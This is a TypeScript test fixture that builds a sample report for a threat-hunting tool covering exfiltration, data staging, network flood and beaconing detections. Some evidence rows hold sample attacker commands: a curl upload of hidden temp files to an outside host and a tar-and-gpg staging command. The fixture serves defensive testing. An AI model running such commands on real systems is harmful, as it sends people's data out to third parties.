import type {
  EvidenceRow,
  FindingDetail,
  HuntReport,
  HuntResult,
  SeriesPoint,
} from '../../model/hunt-result.js';
import { sampleFindings } from './sample-findings.js';

const MINUTE = 60_000;

/** A hunt as a reader would meet it: findings, a blind strategy, rejected lines, clocks out of step. */
export function sampleResult(overrides: Partial<HuntResult> = {}): HuntResult {
  return {
    report: sampleReport(),
    details: [uploadDetail(), stagingDetail(), floodDetail()],
    assumptions: [
      'Inside: 10.0.0.0/8, 172.16.0.0/12, 192.168.0.0/16, fd00::/8 (private ranges; stowaway.yaml states none).',
      'Times without a zone in auditd logs are read as UTC.',
      'No code host or registry is stated as sanctioned: each counts as unsanctioned.',
    ],
    problems: [
      {
        where: 'recordings/edge/flows.parquet',
        what: 'not a log this version recognises',
        advice: 'export the flow records as JSON lines or CSV',
        level: 'note',
      },
      {
        where: 'recordings/node1/conn.log.gz:18204',
        what: 'compressed data ends early: the rest of the file is lost',
        advice: 'copy the file again after the sensor has rotated it',
        level: 'error',
      },
    ],
    mismatches: [],
    failures: [],
    deadLetters: {
      total: 7,
      sample: [
        {
          file: 'recordings/node1/conn.log.gz',
          line: 911,
          reason: 'ts is no time: "-"',
          source: 'zeek-conn',
        },
        {
          file: 'recordings/node1/falco.json',
          line: 14,
          reason: 'not JSON: unexpected end',
          source: 'falco-alerts',
        },
      ],
    },
    clocks: [
      { source: 'zeek-conn', offset_seconds: 0, error_seconds: 0.002, matches: 1204 },
      { source: 'falco-alerts', offset_seconds: -1.84, error_seconds: 0.12, matches: 38 },
    ],
    partial: false,
    beacons: sampleBeacons(),
    proposed: [],
    trials: [],
    paths: ['recordings/node1', 'recordings/edge'],
    startedAt: '2026-07-21T08:00:00Z',
    elapsedSeconds: 4.27,
    version: '0.1.0',
    ...overrides,
  };
}

/** The contract part of the sample. */
export function sampleReport(): HuntReport {
  return {
    version: 1,
    inputs: [
      {
        source: 'docker-events',
        files: 1,
        events: 312,
        rejected: 0,
        duplicates: 12,
        from: '2026-07-20T00:00:11Z',
        to: '2026-07-21T00:05:02Z',
      },
      {
        source: 'falco-alerts',
        files: 1,
        events: 1840,
        rejected: 1,
        duplicates: 0,
        from: '2026-07-20T00:00:04Z',
        to: '2026-07-20T23:59:58Z',
      },
      {
        source: 'zeek-conn',
        files: 24,
        events: 1_204_311,
        rejected: 6,
        duplicates: 0,
        from: '2026-07-06T00:00:00Z',
        to: '2026-07-21T00:05:00Z',
      },
    ],
    strategies: [
      state('T1020-automated-exfiltration', 'Automated exfiltration', 'degraded', [
        'history of 14 days is too short for the hour-of-week baseline: hour of day is used',
      ]),
      state('T1074.002-remote-data-staging', 'Remote data staging', 'fired', []),
      state('T1498.001-direct-network-flood', 'Direct network flood', 'fired', []),
      state('T1567-exfiltration-over-web-service', 'Exfiltration over web service', 'fired', []),
      state('T1567.001-exfiltration-to-code-repository', 'Exfiltration to code repository', 'blind', [
        'no registry notifications and no code-host audit log were given',
        'http_activity is empty: git smart-HTTP pushes cannot be told from other uploads',
      ]),
    ],
    findings: [...sampleFindings],
    suppressed: 1,
  };
}

function state(id: string, title: string, name: 'fired' | 'degraded' | 'blind' | 'quiet', reasons: string[]) {
  return { id, technique: id.split('-')[0]!, title, state: name, reasons };
}

function uploadDetail(): FindingDetail {
  const start = Date.parse('2026-07-20T13:00:00Z');
  const usual = [61, 83, 74, 90, 70, 66, 120, 80, 77, 95];
  const series: SeriesPoint[] = Array.from({ length: 100 }, (_, i) => {
    const sending = i >= 62 && i < 80;
    const bytes = sending ? 700_000 + ((i * 7919) % 11) * 52_000 : usual[i % 10]! * 14;
    return { time: new Date(start + i * MINUTE).toISOString(), bytes_out: bytes };
  });
  const row = (time: string, source: string, cls: EvidenceRow['class'], text: string, line: number) => ({
    time: `2026-07-20T${time}Z`,
    source,
    class: cls,
    text,
    file: `recordings/node1/${source}.log`,
    line,
  });
  const evidence: EvidenceRow[] = [
    row('14:01:27', 'docker-events', 'orchestration', 'exec_start sh in payments-api by deploy', 207),
  ];
  for (let i = 0; i < 9; i += 1) {
    const at = new Date(Date.parse('2026-07-20T14:02:05Z') + i * 118_000).toISOString().slice(11, 19);
    const next = new Date(Date.parse('2026-07-20T14:02:07Z') + i * 118_000).toISOString().slice(11, 19);
    evidence.push(
      row(at, 'falco-alerts', 'process', `curl -T /tmp/.k.${i} https://files.example.org/u`, 801 + i),
    );
    evidence.push(
      row(next, 'zeek-conn', 'traffic', '10.88.0.12 → 203.0.113.44:443 ssl, 1.96 MB out', 90210 + i * 4),
    );
  }
  return {
    uid: 'T1567-3f9a2c51',
    bucket_seconds: 60,
    series,
    baseline: { rung: 'hour of day, 14 days of this workload', median: 1390, upper: 64_000 },
    evidence,
    evidence_total: 31,
  };
}

function stagingDetail(): FindingDetail {
  const start = Date.parse('2026-07-20T13:30:00Z');
  return {
    uid: 'T1074.002-b1e07744',
    bucket_seconds: 300,
    series: [0, 3.1e6, 4.4e6, 5.2e6, 6.2e6, 0, 0].map((bytes, i) => ({
      time: new Date(start + i * 5 * MINUTE).toISOString(),
      bytes_out: bytes,
    })),
    baseline: null,
    evidence: [
      {
        time: '2026-07-20T13:52:40Z',
        source: 'falco-alerts',
        class: 'process',
        text: 'tar czf - /in | gpg -c -o /dev/shm/.k',
        file: 'recordings/node1/falco-alerts.log',
        line: 766,
      },
    ],
    evidence_total: 1,
  };
}

function floodDetail(): FindingDetail {
  return {
    uid: 'T1498.001-90cc1d02',
    bucket_seconds: 60,
    series: [],
    baseline: null,
    evidence: [],
    evidence_total: 0,
  };
}

function sampleBeacons(): HuntResult['beacons'] {
  const regular = { count: 288, median_interval_seconds: 300, timestamp_score: 0.98, data_size_score: 0.91 };
  return [
    {
      entity: 'shop/metrics',
      destination: 'push.example.net:443',
      ...regular,
      bytes_out: 9_400_000,
      bytes_in: 310_000,
    },
    {
      entity: 'shop/web',
      destination: 'config.example.net:443',
      ...regular,
      bytes_out: 120_000,
      bytes_in: 8_800_000,
    },
  ];
}
